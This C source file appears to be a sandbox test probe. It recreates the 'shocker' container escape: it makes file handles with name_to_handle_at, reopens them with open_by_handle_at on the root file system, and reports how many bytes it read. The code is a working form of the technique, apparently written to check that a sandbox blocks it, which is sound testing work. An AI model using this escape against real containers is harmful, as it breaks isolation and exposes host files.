/* open_by_handle_at(2) with a handle made outside the sandbox, the
 * "shocker" escape past every mount and mask: each argument one step.
 *   make:PATH     the handle of PATH, printed as "handle TYPE:HEX"
 *   open:TYPE:HEX the file of that handle, on the file system of /,
 *                 opened and read ("read N" bytes) */
#include "probe.h"

int main(int argc, char **argv) {
        for (int i = 1; i < argc; i++) {
                struct {
                        struct file_handle h;
                        unsigned char bytes[MAX_HANDLE_SZ];
                } fh = { .h.handle_bytes = MAX_HANDLE_SZ };
                const char *a = argv[i];
                int mount_id, mfd, fd;
                char hex[2 * MAX_HANDLE_SZ + 1] = "";

                if (strncmp(a, "make:", 5) == 0) {
                        if (step("name-to-handle", name_to_handle_at(AT_FDCWD, a + 5, &fh.h, &mount_id, 0)) < 0)
                                continue;
                        for (unsigned k = 0; k < fh.h.handle_bytes; k++)
                                sprintf(hex + 2 * k, "%02x", fh.bytes[k]);
                        say("handle", "%d:%s", fh.h.handle_type, hex);
                } else if (strncmp(a, "open:", 5) == 0) {
                        const char *h = strchr(a + 5, ':');
                        size_t n;

                        if (!h || (n = strlen(h + 1) / 2) > MAX_HANDLE_SZ) {
                                say("unknown", "%s", a);
                                return 2;
                        }
                        fh.h.handle_type = atoi(a + 5);
                        fh.h.handle_bytes = (unsigned) n;
                        for (size_t k = 0; k < n; k++)
                                sscanf(h + 1 + 2 * k, "%2hhx", &fh.bytes[k]);
                        mfd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
                        fd = (int) step("open-by-handle", open_by_handle_at(mfd, &fh.h, O_RDONLY | O_CLOEXEC));
                        if (fd >= 0) {
                                char buf[256];
                                ssize_t r = read(fd, buf, sizeof(buf));
                                say("read", "%zd", r);
                                close(fd);
                        }
                        close(mfd);
                } else {
                        say("unknown", "%s", a);
                        return 2;
                }
        }
        return 0;
}
